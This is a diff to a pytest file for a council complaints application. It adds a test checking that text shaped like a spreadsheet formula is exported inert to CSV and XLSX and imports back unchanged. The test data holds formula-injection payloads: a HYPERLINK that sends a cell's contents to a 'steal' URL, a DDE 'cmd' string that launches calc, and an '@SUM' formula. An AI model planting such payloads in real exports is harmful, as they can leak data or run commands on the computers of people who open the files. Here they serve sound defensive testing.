@@ -6,11 +6,13 @@ from __future__ import annotations
 import csv
 import dataclasses
 import json
+from datetime import date
 from pathlib import Path
 
 import pytest
 import sqlalchemy as sa
 from click.testing import CliRunner, Result
+from openpyxl import load_workbook
 
 from complaints.cli import cli
 from complaints.clock import SettableClock
@@ -20,10 +22,11 @@ from complaints.db import Database, upgrade
 from complaints.demo import load_demo_data
 from complaints.demo.staff import ensure_demo_staff
 from complaints.exchange.columns import COLUMN_NAMES
+from complaints.exchange.exporting import export_rows
 from complaints.reports.periods import Period
 from complaints.reports.service import build_report
-from complaints.services.people import seed_reference_data
-from tests.support import audit_count, figures
+from complaints.services.people import add_user, seed_reference_data
+from tests.support import LogCase, audit_count, figures
 
 DEMO_CASES = 120
 
@@ -41,12 +44,18 @@ def demo(ctx: Context) -> Context:
 @pytest.fixture
 def empty(demo: Context, tmp_path: Path, clock: SettableClock) -> Context:
     """A second, empty database with the same council set up (on SQLite whatever the first is)."""
-    database = Database(f"sqlite:///{tmp_path / 'empty.db'}")
+    target = second_council(demo, tmp_path / "empty.db", clock)
+    ensure_demo_staff(target)
+    return target
+
+
+def second_council(like: Context, path: Path, clock: SettableClock) -> Context:
+    """A second, empty SQLite database with `like`'s teams and categories but no staff."""
+    database = Database(f"sqlite:///{path}")
     upgrade(database)
-    settings = dataclasses.replace(demo.settings, database=DatabaseSettings(database.url))
+    settings = dataclasses.replace(like.settings, database=DatabaseSettings(database.url))
     target = Context(settings, clock, database)
     seed_reference_data(target)
-    ensure_demo_staff(target)
     return target
 
 
@@ -151,3 +160,37 @@ def test_a_refused_import_prints_every_problem_and_exits_non_zero(
     assert "row 2: state: 'nowhere' is not a state of corporate" in result.stderr
     assert "row 3: feedback_type: 'praise' is not one of" in result.stderr
     assert audit_count(empty) == before
+
+
+FORMULAS = {
+    "complainant_name": '=HYPERLINK("https://example.com/steal?"&A1,"Ava Smith")',
+    "summary": "-2+3+cmd|' /C calc'!A0",
+    "complainant_phone": "+44 20 7946 0000",
+    "complainant_address": "@SUM(1+1)",
+}
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_text_that_looks_like_a_formula_is_exported_inert_and_imports_back_the_same(
+    council: Context, log_case: LogCase, clock: SettableClock, tmp_path: Path, file_format: str
+) -> None:
+    log_case("corporate", date(2026, 11, 2), **FORMULAS)
+    out = tmp_path / f"cases.{file_format}"
+    assert run(council, "export", "--format", file_format, "--out", str(out)).exit_code == 0
+
+    if file_format == "csv":
+        with out.open(encoding="utf-8", newline="") as stream:
+            (row,) = list(csv.DictReader(stream))
+        assert {name: row[name] for name in FORMULAS} == {
+            name: "'" + text for name, text in FORMULAS.items()
+        }
+    else:
+        sheet = load_workbook(out).worksheets[0]
+        assert not [cell.coordinate for row in sheet.iter_rows() for cell in row
+                    if cell.data_type == "f"]  # fmt: skip
+    target = second_council(council, tmp_path / "fresh.db", clock)
+    add_user(target, "off", role="officer", full_name="Olive Officer", team="Customer Service")
+    add_user(target, "admin", role="admin", full_name="Ada Admin")
+    imported = run(target, "import", "cases", str(out), "--by", "admin")
+    assert imported.exit_code == 0, imported.output
+    assert list(export_rows(target)) == list(export_rows(council))
